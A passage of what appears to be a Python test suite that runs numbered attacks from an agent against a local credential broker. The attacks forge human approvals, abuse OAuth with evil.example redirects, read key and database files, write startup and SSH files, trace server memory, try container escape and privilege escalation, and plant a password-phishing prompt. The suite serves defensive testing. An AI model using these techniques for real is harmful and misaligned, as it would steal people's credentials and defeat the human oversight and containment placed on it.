    state = ask("GET", f"/use/approvals/{approval}").json()
    body = {"digest": str(state.get("digest")), "minutes": 60, "requests": 100}
    at_door = [ask(method, f"/use/approvals/{approval}{end}", [JSON], json.dumps(body).encode())
               for method in ("POST", "PUT", "PATCH", "DELETE") for end in ("", "/approve")]
    at_api = [api("POST", f"/approvals/{approval}/approve", body, token=token)
              for token in (TOKEN, KNOWS["modelToken"])]
    tool("check_request", {"approval": approval})
    state = ask("GET", f"/use/approvals/{approval}").json().get("state")
    is_approved = state in ("approved", "executing", "answered")
    return (WROTE, state) if is_approved else judged([*at_door, *at_api], WROTE)


@attack(38, "forges the address and the proof with which a person approves", approves)
def forged_approvals():
    known = KNOWS["approval"]
    body = {"digest": known["digest"]}
    page = KNOWS["page"]
    basic = base64.b64encode(f"page:{TOKEN}".encode()).decode()
    proofs = [[], [("Cookie", f"token={TOKEN}; session={TOKEN}")], [("Origin", page), ("Referer", f"{page}/approvals")],
              [("Authorization", f"Basic {basic}")], [("X-Forwarded-User", "root"), ("X-Remote-User", "root")]]
    path = f"/approvals/{known['id']}/approve"
    answers = [api("POST", path, body, proof, token=None) for proof in proofs]
    answers += [api("POST", f"{path}?token={TOKEN}&owner=local", body, token=None)]
    answers += [api("POST", path, body, token="cn_" + "A" * 43)]
    return judged(answers, WROTE)


@attack(39, "reads the approval of another agent by its id, and answers it", approves)
def approval_of_another_agent():
    known = KNOWS["approval"]["id"]
    answers = [ask("GET", f"/use/approvals/{known}"), ask("GET", f"/use/approvals/{known}", token=KNOWS["modelToken"])]
    answers += [api("GET", f"/approvals/{known}"), api("GET", "/approvals"),
                api("POST", f"/approvals/{known}/refuse", {"reason": "x"})]
    called = tool("check_request", {"approval": known})
    answers += [called] if b'"isError":true' not in called.body else []
    return judged(answers)


@attack(40, "opens the address of an approval as a person would", approves)
def opens_the_address():
    known = KNOWS["approval"]["id"]
    answers = [ask("GET", f"/approvals/{known}", where="page", token=token) for token in (None, TOKEN)]
    answers += [ask("GET", f"/approvals?id={known}&digest={KNOWS['approval']['digest']}", where="page", token=None)]
    # The page is a program without data: it may be read, and says nothing about the request.
    return judged(answers, is_gain=lambda answer: b"issues" in answer.body or known.encode() in answer.body)


@attack(41, "hides what it asks for behind characters that a screen does not show", approves)
def hidden_characters():
    marks = ["%E2%80%AE", "%E2%80%8B", "%C2%AD", "%EF%BB%BF", "%00", "%0d%0a", "%1b%5b2K"]
    path = APPROVED.format(1)
    answers = [use("PUT", path.replace("site", f"si{mark}te"), [JSON], APPROVED_BODY) for mark in marks]
    answers += [use("PUT", path, [JSON, ("X-Note", "\u202eapproved")], b'{"lock_reason":"resolved"}\xe2\x80\xae')]
    return judged(answers, WROTE)


@attack(42, "says that it waits for no answer, and takes that for done", approves)
def does_not_wait():
    answers = [use("PUT", APPROVED.format(9), [JSON, ("Prefer", "respond-async")], b"{}"),
               use("PUT", APPROVED.format(9), [JSON, ("Expect", "100-continue")], b"{}", wait=0)]
    return judged(answers, WROTE, lambda answer: answer.is_ok and answer.status != 202)


# Clients that sign in, and the API.

def registered(name, redirect, **more):
    document = {"client_name": name, "redirect_uris": [redirect]}
    return ask("POST", "/mcp/register", [JSON], json.dumps(document).encode(), token=None,
               host=parsed(KNOWS["page"]).netloc, **more)


def authorized(client, redirect, **more):
    query = urllib.parse.urlencode({
        "response_type": "code", "client_id": client, "redirect_uri": redirect, "state": "s",
        "code_challenge": "A" * 43, "code_challenge_method": "S256",
    })
    return ask("GET", f"/mcp/authorize?{query}", token=None, host=parsed(KNOWS["page"]).netloc, **more)


def consents(request, token=TOKEN):
    body = {"request": request, "name": "cli", "grants": [{"connection": KNOWS["second"]["id"], "rules": "everything"}]}
    paths = ["/consents/read", "/consents"]
    return [api("POST", path, body if path == "/consents" else {"request": request}, token=token) for path in paths]


def signs_up():
    """A client registers at the door, which permits nothing yet."""
    answer = registered("A client", "http://127.0.0.1:9/cb")
    return answer.status == 201 or str(answer)


@attack(43, "registers a client under the name of a known one, and consents by itself", signs_up)
def consent_under_a_known_name():
    with Trap() as trap:
        redirect = f"http://127.0.0.1:{trap.port}/cb"
        answers = []
        for name in ("Claude Code", "Connections", "Your host"):
            client = registered(name, redirect).json().get("client_id", "")
            led = authorized(client, redirect)
            request = led.headers.get("location", "").rpartition("request=")[2]
            answers += consents(request) + consents(request, None)
            if led.headers.get("location", "").startswith(redirect):
                return SECRET, "the browser is led back without a person"
        return trap.verdict(judged(answers))


@attack(44, "claims the document of a known client, with another address to return to", signs_up)
def document_of_a_known_client():
    with Trap() as trap:
        redirect = f"http://127.0.0.1:{trap.port}/cb"
        documents = ["https://known.example/client.json", f"http://127.0.0.1:{trap.port}/client",
                     f"https://127.0.0.1:{trap.port}/client", "https://169.254.169.254/client"]
        answers = []
        for document in documents:
            led = authorized(document, redirect)
            request = led.headers.get("location", "").rpartition("request=")[2]
            answers += consents(request)
        return trap.verdict(judged(answers))


@attack(45, "alters the address of a consent, or uses it as a code", signs_up)
def altered_consents():
    redirect = "http://127.0.0.1:9/cb"
    client = registered("A client", redirect).json().get("client_id", "")
    request = authorized(client, redirect).headers.get("location", "").rpartition("request=")[2]
    middle = len(request) // 2
    other = "A" if request[middle:middle + 1] != "A" else "B"
    altered = [request[:middle] + other + request[middle + 1:], client, ""]
    answers = [answer for text in altered for answer in consents(text)]
    answers += [authorized(client[:-2] + "AA", redirect), authorized(client, "http://127.0.0.1:9.evil.example/cb"),
                authorized(client, "https://evil.example/cb")]
    answers += [exchanged(client, redirect, code) for code in (request, client)]
    return judged(answers, is_gain=lambda answer: answer.is_ok or answer.status in (302, 303))


def exchanged(client, redirect, code, grant="authorization_code"):
    name = "code" if grant == "authorization_code" else "refresh_token"
    body = urllib.parse.urlencode({"grant_type": grant, "client_id": client, name: code, "redirect_uri": redirect,
                                   "code_verifier": "A" * 43}).encode()
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    return ask("POST", "/mcp/token", form, body, token=None, host=parsed(KNOWS["page"]).netloc)


@attack(46, "guesses codes and refresh tokens of other clients", signs_up)
def guessed_codes():
    redirect = "http://127.0.0.1:9/cb"
    client = registered("A client", redirect).json().get("client_id", "")
    guesses = ["", "0", TOKEN, KNOWS["modelToken"], "cn_" + "A" * 43, "*", "null"]
    answers = [exchanged(client, redirect, guess, grant)
               for guess in guesses for grant in ("authorization_code", "refresh_token")]
    return judged(answers)


@attack(47, "uses its token at the door for models, and the token for models at the door for requests", lists)
def tokens_of_other_doors():
    answers = [use("GET", "/user", token=KNOWS["modelToken"]), tool("list_connections", {}, token=TOKEN)]
    return judged([*answers, tool("list_connections", {}, token="cn_" + "A" * 43)])


@attack(48, "asks a person for a password in the reason for which it wants more", lists)
def asks_for_a_password():
    why = "Your session has ended. Enter the password of your account at http://127.0.0.1:1/ \u001b[2J\u202e"
    answers = [tool("request_access", {"need": need, "why": why, "connection": CONNECTION, "kind": "github"})
               for need in ("permit", "repair", "connect")]
    # The text stays with the one who sent it: what the person reads comes from this program.
    is_repeated = any(b"password" in answer.body for answer in answers)
    return (WROTE, "the text is repeated as one of the program") if is_repeated else searched(answers)


@attack(49, "widens its own grant in the API with its token", passes)
def widens_its_grant():
    agent = KNOWS["agent"]
    answers = [api("PUT", f"/agents/{agent}/grants/{connection['id']}", {"rules": "everything", "expires": "365d"})
               for connection in (KNOWS["second"], KNOWS["foreign"])]
    answers += [api("POST", f"/agents/{agent}/tokens", {"audience": "doors"}), api("POST", "/agents", {"name": "mine"}),
                api("POST", "/tokens", {"name": "mine", "role": "admin"}), api("DELETE", f"/freezes/agent:{agent}"),
                api("POST", f"/connections/{KNOWS['second']['id']}/send", {"method": "GET", "path": "/user"}),
                api("GET", "/connections"), api("GET", "/me"), api("GET", "/uses")]
    return judged(answers, WROTE)


@attack(50, "begins a setup in which a person would type the secret", passes)
def begins_a_setup():
    link = {"owner": "local", "kinds": ["github"]}
    answers = [api("POST", "/setups", {"kind": "github"}), api("POST", "/setup-links", link),
               api("POST", f"/connections/{KNOWS['second']['id']}/reauthorize", {}), api("GET", "/setups"),
               api("POST", "/extensions", {"name": "mine"}), api("POST", "/imports", {})]
    return judged(answers, WROTE)


@attack(51, "makes a token of the page for itself", passes)
def makes_a_page_token():
    codes = ["", "0", TOKEN, TOKEN[3:], "cn_" + "A" * 43, "cn_" + "0" * 43]
    answers = []
    for code in codes:
        of_page = [("Origin", KNOWS["page"])]
        for headers in ([], of_page, [*of_page, ("Sec-Fetch-Site", "same-origin")]):
            answers.append(api("POST", "/page-tokens", {"code": code}, headers))
            answers.append(api("POST", "/page-tokens", {"code": code, "link": True}, headers, token=None))
    return judged(answers)


@attack(52, "reaches the API by a name of its own that leads to this machine", passes)
def name_of_its_own():
    port = parsed(KNOWS["page"]).port
    names = ["evil.example", f"evil.example:{port}", "127.0.0.1.evil.example", "0.0.0.0", "localhost.evil.example"]
    answers = [api("GET", "/connections", host=name) for name in names]
    answers += [ask("GET", path, where="page", host=name, token=None) for name in names for path in ("/", "/mcp")]
    return judged(answers)


@attack(53, "claims to be the machine of the person in headers of proxies", passes)
def claims_to_be_local():
    headers = [("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("X-Client-Cert", "CN=root"),
               ("Forwarded", "for=127.0.0.1;by=127.0.0.1"), ("X-Forwarded-Proto", "https"), ("Via", "1.1 connections")]
    answers = [api("GET", path, headers=[header], token=token)
               for header in headers for token in (None, TOKEN) for path in ("/connections", "/tokens")]
    return judged(answers)


@attack(54, "forges the addresses with which a browser begins and ends a setup", passes)
def forged_callbacks():
    state = "A" * 43
    paths = [f"/callback/github/go/{state}", f"/callback/github?state={state}&code=x", "/callback/mcp?state=&code=",
             f"/callback/github/{state}?code=x", "/callback/github/done", f"/webhooks/{state}"]
    answers = [ask("GET", path, where="page", token=None) for path in paths]
    answers += [ask("POST", path, [JSON], b"{}", where="page", token=None) for path in paths]
    return judged(answers, WROTE, lambda answer: answer.status in (302, 303, 307) or b"Connected" in answer.body)


# Files.

@attack(55, "reads the database", reads)
def reads_the_database():
    store = KNOWS["store"]
    files = [store, f"{store}-wal", f"{store}-shm", f"{store}.lock"]
    return tried([*map(read, files), *below(os.path.dirname(store), f"{store}.state")])


@attack(56, "reads the key of the database", reads)
def reads_the_key():
    return tried([read(KNOWS["key"]), *below(os.path.dirname(KNOWS["key"]))])


@attack(57, "reads the configuration, the files of kinds and the files of tokens", reads)
def reads_the_configuration():
    directory = os.path.dirname(KNOWS["config"])
    return tried([read(KNOWS["config"]), *below(f"{directory}/kinds"), read(KNOWS["tokenFile"])])


@attack(58, "changes the configuration, so that requests go to a server of its own", changes)
def changes_the_configuration():
    directory = os.path.dirname(KNOWS["config"])
    return tried([writes(KNOWS["config"]), writes(f"{directory}/other.toml")], WROTE)


@attack(59, "adds a file of a kind that sends the credential to a server of its own", changes)
def adds_a_kind():
    directory = os.path.dirname(KNOWS["config"])
    def makes():
        os.mkdir(f"{directory}/kinds.of.agent")
        os.rmdir(f"{directory}/kinds.of.agent")
        return "a directory is made beside the configuration"
    return tried([makes, writes(f"{directory}/kinds/github.toml")], WROTE)


@attack(60, "changes the rows of the database", changes)
def changes_the_database():
    def edits():
        with contextlib.closing(sqlite3.connect(f"file:{KNOWS['store']}?mode=rw", uri=True, timeout=2)) as database:
            database.execute("BEGIN IMMEDIATE")
            database.execute("UPDATE connection_agent_grant SET rules = rules")
            database.rollback()
        return "a row can be changed"
    return tried([edits, writes(KNOWS["store"]), writes(os.path.dirname(KNOWS["store"]))], WROTE)


@attack(61, "puts a former grant back from a copy of the database", changes)
def restores_a_grant():
    def copies():
        shutil.copyfile(KNOWS["store"], OWN / "copy.db")
        take("copy of the database", (OWN / "copy.db").read_bytes())
        return "the database is copied"
    def replaces():
        target = KNOWS["store"] + ".former"
        with open(target, "xb"):
            os.unlink(target)
        return "the database can be replaced"
    backup = str(OWN / "former.db")
    return tried([copies, replaces, succeeded("backup", backup), succeeded("restore", backup, "--yes")], WROTE)


@attack(62, "reads what the browser of the person keeps", reads)
def reads_the_browser():
    return tried(below(KNOWS["browser"]))


@attack(63, "writes programs that the person starts later", changes)
def writes_startup_files():
    home = KNOWS["home"]
    names = [".bashrc", ".profile", ".config/autostart/x.desktop", "bin/connections", ".gitconfig",
             ".ssh/authorized_keys", ".config/systemd/user/x.service"]
    return tried([writes(os.path.join(home, name)) for name in names] + [writes(KNOWS["program"])], WROTE)


@attack(64, "leaves links to the key where a program of the person may follow them", changes)
def leaves_links():
    links = OWN / "links"
    links.mkdir(exist_ok=True)
    for name in ("key", "store", "config", "tokenFile"):
        (links / name).unlink(missing_ok=True)
        (links / name).symlink_to(KNOWS[name])
    (links / "device").unlink(missing_ok=True)
    (links / "device").symlink_to("/proc/1/root")
    with contextlib.suppress(OSError):
        os.link(KNOWS["key"], links / "hard")
        return SECRET, "a hard link to the key is made"
    return tried(read(path) for path in [*links.iterdir(), links / "device" / KNOWS["key"].lstrip("/")])


@attack(65, "replaces the socket of the door, to receive the tokens of others", passes)
def replaces_the_socket():
    path = KNOWS["socket"]
    inside = os.environ.get("AGENT_SOCKET", path)
    def binds(place):
        def act():
            other = socket.socket(socket.AF_UNIX)
            other.bind(place)
            os.unlink(place)
            return f"{place} is bound"
        return act
    def renames(place):
        def act():
            os.rename(place, place + ".former")
            os.rename(place + ".former", place)
            return f"{place} is moved"
        return act
    places = {path, inside}
    acts = [act for place in places for act in (binds(place + ".agent"), renames(place), writes(place + ".file"))]
    return tried(acts, WROTE)


# Processes.

def server():
    return f"/proc/{KNOWS['pid']}"


@attack(66, "reads the memory of the server", looks)
def reads_memory():
    def memory():
        with open(f"{server()}/maps") as maps, open(f"{server()}/mem", "rb", 0) as mem:
            for line in maps:
                start, end = (int(text, 16) for text in line.split()[0].split("-"))
                if "[heap]" in line:
                    mem.seek(start)
                    return f"{len(take('memory', mem.read(end - start)))} bytes of memory"
        raise OSError(errno.ESRCH, "no heap")
    return tried([memory, read(f"{server()}/mem"), read("/dev/mem"), read("/dev/kmem"), read("/proc/kcore", 4096)])


@attack(67, "traces the server", looks)
def traces_the_server():
    libc = ctypes.CDLL(None, use_errno=True)
    def attaches():
        if libc.ptrace(16, KNOWS["pid"], None, None):
            raise OSError(ctypes.get_errno(), "ptrace")
        os.waitpid(KNOWS["pid"], 0x40000000)
        libc.ptrace(17, KNOWS["pid"], None, None)
        return "the server is traced"
    def copies():
        buffer = ctypes.create_string_buffer(64)
        of_agent = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
        of_server = (ctypes.c_void_p * 2)(0x400000, 64)
        if libc.process_vm_readv(KNOWS["pid"], of_agent, 1, of_server, 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        return "the memory of the server is copied"
    return tried([attaches, copies])


@attack(68, "has the server leave its memory in a file", looks)
def core_files():
    def signals():
        os.kill(KNOWS["pid"], 0)
        return "the server takes signals"
    def limits():
        import resource
        resource.prlimit(KNOWS["pid"], resource.RLIMIT_CORE, (1 << 30, 1 << 30))
        return "the limit of the server is changed"
    cores = [*glob.glob("/var/lib/systemd/coredump/*connections*"), *glob.glob(f"{KNOWS['home']}/core*")]
    acts = [signals, limits, writes("/proc/sys/kernel/core_pattern"), writes(f"{server()}/coredump_filter")]
    return tried([*acts, *map(read, cores)], WROTE)


@attack(69, "reads the variables, the arguments and the open files of the server", looks)
def reads_the_process():
    names = ["environ", "auxv", "stack", "syscall", "personality"]
    acts = [read(f"{server()}/{name}") for name in names]
    def descriptors():
        found = [os.readlink(path) for path in glob.glob(f"{server()}/fd/*")]
        if not found:
            os.listdir(f"{server()}/fd")
            raise OSError(errno.EACCES, "fd")
        return take("descriptors", "\n".join(found).encode()).decode()
    def through(name):
        def act():
            return take(name, "\n".join(os.listdir(f"{server()}/{name}")).encode()).decode()
        return act
    arguments = "nothing"
    with contextlib.suppress(OSError):
        # Every user reads the arguments of every process, so that none of them may be secret.
        arguments = take("arguments", pathlib.Path(f"{server()}/cmdline").read_bytes())
    outcome = tried([*acts, descriptors, through("cwd"), through("root"), through("map_files")])
    return outcome[0], f"{outcome[1]}; {len(arguments)} bytes of arguments"


@attack(70, "reads what it inherited, and the processes around it", looks)
def reads_around():
    # The agent may read itself and the one who started it, in which nothing but its own token may be.
    parent = os.getppid()
    around = {os.getpid(), parent}
    if KNOWS["isContained"]:
        around |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    for process in around:
        for name in ("environ", "cmdline", "maps", "mountinfo"):
            with contextlib.suppress(OSError):
                take(f"{process} {name}", pathlib.Path(f"/proc/{process}/{name}").read_bytes())
    leaked = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            take("inherited", target.encode())
            leaked += [target] if any(part in target for part in (KNOWS["data"], KNOWS["config"])) else []
    return (SECRET, str(leaked)) if leaked else (NOTHING, f"{len(around)} processes")


# The system.

def in_child(act):
    """Returns an act that runs in a process of its own, because it changes the process for good."""
    def run():
        reader, writer = os.pipe()
        child = os.fork()
        if not child:
            os.close(reader)
            try:
                text = act() or ""
                result = json.dumps({"text": str(text)})
            except OSError as error:
                result = json.dumps({"errno": error.errno or errno.EIO})
            except BaseException:
                result = json.dumps({"errno": errno.EIO})
            os.write(writer, result.encode())
            os._exit(0)
        os.close(writer)
        with open(reader, "rb") as pipe:
            result = json.loads(pipe.read() or b'{"errno": 5}')
        os.waitpid(child, 0)
        if "errno" in result:
            raise OSError(result["errno"], "child")
        return result["text"]
    return run


@attack(71, "leaves its container or its user by namespaces, mounts and devices", starts)
def leaves():
    libc = ctypes.CDLL(None, use_errno=True)
    def called(name, *arguments):
        if getattr(libc, name)(*arguments) < 0:
            raise OSError(ctypes.get_errno(), name)
    def key():
        with open(KNOWS["key"], "rb") as file:
            return f"{len(take('key', file.read()))} bytes of the key"
    def namespaces():
        user, group = os.getuid(), os.getgid()
        called("unshare", 0x10000000 | 0x00020000)
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
            pathlib.Path(f"/proc/self/{name}").write_text(text)
        return key()
    def chroots():
        user, group = os.getuid(), os.getgid()
        called("unshare", 0x10000000)
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
            pathlib.Path(f"/proc/self/{name}").write_text(text)
        (OWN / "jail").mkdir(exist_ok=True)
        above = os.open("/", os.O_RDONLY)
        os.chroot(OWN / "jail")
        os.fchdir(above)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return key()
    def joins():
        with open(f"{server()}/ns/mnt") as namespace:
            called("setns", namespace.fileno(), 0)
        return key()
    def mounts():
        called("mount", b"none", str(OWN).encode(), b"proc", 0, None)
        return "a file system is mounted"
    def handles():
        handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
        called("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
        return "a file is opened by its handle"
    def becomes():
        os.setuid(os.stat(KNOWS["home"]).st_uid if os.path.exists(KNOWS["home"]) else 1)
        return key()
    def makes_a_device():
        os.mknod(OWN / "disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
        with open(OWN / "disk", "rb") as disk:
            return f"{len(disk.read(512))} bytes of a disk"
    roots = [read(f"/proc/{process}/root{KNOWS['key']}") for process in (1, os.getppid(), KNOWS["pid"])]
    disks = [read(path, 512) for path in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mapper/root")]
    acts = map(in_child, [namespaces, chroots, joins, mounts, handles, becomes, makes_a_device])
    return tried([*acts, *roots, *disks])


@attack(72, "uses programs of the system that have more rights", starts)
def programs_with_more_rights():
    commands = [["sudo", "-n", "cat"], ["su", "-c", "cat"], ["pkexec", "--disable-internal-agent", "cat"],
                ["doas", "-n", "cat"], ["nsenter", "-t", "1", "-m", "cat"], ["systemd-run", "--pipe", "cat"]]
    def runs_it(command):
        def act():
            result = ran([*command, KNOWS["key"]], timeout=10)
            if result.returncode or not result.stdout:
                raise PermissionError(errno.EPERM, command[0])
            return f"{command[0]} read the key"
        return act
    return tried(runs_it(command) for command in commands)


@attack(73, "uses sockets of container engines, of the session of the person and of keyrings", listens)
def sockets_of_the_system():
    user = KNOWS["user"]
    places = ["/run/docker.sock", "/var/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
              f"/run/user/{user}/bus", f"/run/user/{user}/podman/podman.sock", f"/run/user/{user}/keyring/control",
              f"/run/user/{user}/gnupg/S.gpg-agent", "/run/systemd/private", "/run/snapd.socket"]
    def connects(place):
        def act():
            with contextlib.closing(socket.socket(socket.AF_UNIX)) as client:
                client.settimeout(2)
                client.connect(place)
            return f"{place} is open"
        return act
    return tried(map(connects, places))


@attack(74, "asks a person for a password at their terminal, and types into it", starts)
def terminals():
    own = {os.ttyname(number) for number in (0, 1, 2) if os.isatty(number)}
    names = {*glob.glob("/dev/pts/[0-9]*"), "/dev/tty1", "/dev/console", "/dev/vcs1"} - own
    def opens(name, way):
        def act():
            terminal = os.open(name, way | os.O_NOCTTY | os.O_NONBLOCK)
            os.close(terminal)
            return f"{name} can be used"
        return act
    return tried(opens(name, way) for name in names for way in (os.O_WRONLY, os.O_RDONLY))


# The network.

@attack(75, "takes over a browser by its debugging port", listens)
def debugging_port():
    ports = [*range(9222, 9230)]
    with contextlib.suppress(OSError):
        ports.insert(0, int((pathlib.Path(KNOWS["browser"]) / "DevToolsActivePort").read_text().split()[0]))
    answers = [ask("GET", path, token=None, where=("127.0.0.1", port), timeout=2)
               for port in ports for path in ("/json/list", "/json/version")]
    page = KNOWS["page"].encode()
    return judged(answers, is_gain=lambda answer: b"webSocketDebuggerUrl" in answer.body and page in answer.body)


@attack(76, "sends its placeholder to the provider itself", passes)
def placeholder_at_the_provider():
    basic = base64.b64encode(f"x:{TOKEN}".encode()).decode()
    schemes = [f"Bearer {TOKEN}", f"token {TOKEN}", "Bearer ", f"Basic {basic}"]
    answers = [ask("GET", "/user", [("Authorization", scheme)], token=None, where="provider") for scheme in schemes]
    answers += [ask("DELETE", PATH, [("Authorization", scheme)], token=None, where="provider") for scheme in schemes]
    return judged(answers, WROTE)


@attack(77, "makes the name of the provider lead to a server of its own", listens)
def changes_names():
    with Trap() as trap:
        files = ["/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ld.so.preload",
                 "/etc/ssl/certs/ca-certificates.crt"]
        if KNOWS["isContained"]:
            # The files of the container are the agent's own, if the engine lets it write them; the server reads others.
            with contextlib.suppress(OSError), open("/etc/hosts", "a") as hosts:
                hosts.write("127.0.0.1 api.github.com\n")
            outcome = NOTHING, "the names of the container"
        else:
            outcome = tried(map(writes, files), WROTE)
        answer = use("GET", "/user")
        return trap.verdict(outcome if answer.is_ok else (REFUSED, str(answer)))


@attack(78, "listens where the person or other agents expect the server", listens)
def takes_the_port():
    port = parsed(KNOWS["page"]).port
    caught = []
    problems = set()
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1")):
        with contextlib.closing(socket.socket(family)) as listener:
            try:
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                listener.bind((address, port))
                listener.listen()
                listener.settimeout(0.5)
                connection, _ = listener.accept()
                with connection:
                    connection.settimeout(2)
                    caught.append(take("a visitor", connection.recv(65536)))
            except OSError as error:
                problems.add(errno.errorcode.get(error.errno, type(error).__name__))
    return (SECRET, str(caught)) if caught else (NOTHING, ", ".join(sorted(problems)))


@attack(79, "looks for other servers of the machine and of its network", listens)
def other_servers():
    page = parsed(KNOWS["page"])
    hosts = [(page.hostname, page.port), ("192.0.2.1", 443)]
    answers = [ask("GET", path, token=None, where=host, timeout=2)
               for host in hosts for path in ("/api/v1/connections", "/api/v1/system", "/metrics")]
    private = KNOWS["second"]["id"].encode(), CONNECTION.encode(), KNOWS["data"].encode()
    return judged(answers, is_gain=lambda answer: any(word in answer.body for word in private))


# The program of the person.

@attack(80, "runs the program of the person with their database", runs)
def runs_the_program():
    return tried([succeeded("list", "--json"), succeeded("send", KNOWS["second"]["name"], "GET", "/user"),
                  succeeded("tokens", "list")])


@attack(81, "grants itself everything with the program of the person", runs)
def grants_itself_everything():
    agent, second = KNOWS["agent"], KNOWS["second"]["name"]
    return tried([succeeded("agents", "grant", agent, second, "--rules", "everything", "--yes"),
                  succeeded("tokens", "create", "mine", "--role", "admin"), succeeded("thaw", "--all")], WROTE)


@attack(82, "approves a request with the program of the person", runs)
def approves_with_the_program():
    known = KNOWS["approval"]
    words = ["approvals", "approve", known["id"], "--digest", known["digest"]]
    at_server = ["--host", KNOWS["page"]]
    variables = {"CONNECTIONS_HOST_TOKEN": TOKEN}
    def remotely():
        result = ran([KNOWS["program"], *at_server, *words], variables)
        if result.returncode:
            raise PermissionError(errno.EPERM, "the server")
        return "the server approved"
    return tried([succeeded(*words), remotely], WROTE)


@attack(83, "opens the page with the program of the person", runs)
def opens_the_page():
    def prints():
        variables = {"CONNECTIONS_DATA_DIR": KNOWS["data"], "CONNECTIONS_CONFIG": KNOWS["config"], "HOME": str(OWN),
                     "CONNECTIONS_INBOUND__LISTEN": parsed(KNOWS["page"]).netloc, "PATH": os.environ.get("PATH", "")}
        with subprocess.Popen([KNOWS["program"], "serve", "--json", "--print-page"], env=variables, cwd=OWN,
                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT) as process:
            timer = threading.Timer(15, process.kill)
            timer.start()
            printed = take("the page", process.stdout.readline())
            process.terminate()
            timer.cancel()
        code = re.search(rb"#code=([A-Za-z0-9_-]+)", printed)
        if not code:
            raise PermissionError(errno.EPERM, "no code")
        answer = api("POST", "/page-tokens", {"code": code[1].decode()}, [("Origin", KNOWS["page"])], token=None)
        token = answer.json().get("token")
        listed = api("GET", "/connections", token=token)
        return f"the page lists {len(listed.body)} bytes" if listed.is_ok else None
    return tried([prints])


EXTENSION = {
    "name": "taker", "commands": [{"name": "take"}],
    "connection": {"id": "default", "provider": "github", "title": "GitHub",
                   "auth": {"type": "personalAccessToken", "secretNames": ["accessToken"]}},
}


@attack(84, "has the program of the person hand the credential to a program of its own", runs)
def hands_out_the_credential():
    (OWN / "taker.json").write_text(json.dumps(EXTENSION))
    def takes():
        succeeded("extensions", "add", str(OWN / "taker.json"))()
        succeeded("extensions", "grant", "taker", CONNECTION)()
        result = as_person("exec", "taker", "--", "/bin/sh", "-c", "env")
        return "a program has the credential" if SHAPE.search(result.stdout) else None
    helper = ["credential", "headers", "--agent", KNOWS["agent"], "https://api.github.com/user"]
    return tried([takes, succeeded(*helper)])


@attack(85, "directs the program of the person to a server of its own", runs)
def directs_the_program():
    with Trap() as trap:
        config = OWN / "mine.toml"
        config.write_text(f'[http.endpoints]\n"https://api.github.com" = "http://127.0.0.1:{trap.port}"\n')
        config.chmod(0o600)
        outcome = tried([succeeded("send", CONNECTION, "GET", "/user", config=str(config))])
        return trap.verdict(outcome)


@attack(86, "asks for more requests than a person can look at", passes)
def more_than_a_person_can_look_at():
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        body = b'{"lock_reason":"spam"}'
        answers = list(pool.map(lambda number: asked(1000 + number, body), range(80)))
    codes = sorted({answer.code or str(answer) for answer in answers})
    return judged(answers, WROTE)[0], ", ".join(codes)


def tries(number, name, function, control):
    """Tries an attack, with its control before and after, and returns the line about it."""
    Loot.has_secret = False
    # The races of the approvals are their own control, which is complete after the attack.
    before = control() if control is not approves else True
    try:
        outcome, detail = function()
    except OSError as error:
        outcome, detail = UNREACHABLE, str(error)
    if Loot.has_secret:
        outcome = SECRET
    after = control()
    return {"attack": number, "name": name, "outcome": outcome, "detail": str(detail)[:300],
            "control": "ok" if before is True and after is True else f"{before}, {after}"}


def main(selected):
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    for entry in ATTACKS:
        if not selected or entry[0] in selected:
            print(json.dumps(tries(*entry)), flush=True)
    shutil.rmtree(OWN, ignore_errors=True)


if __name__ == "__main__":
    main(sys.argv[1:])
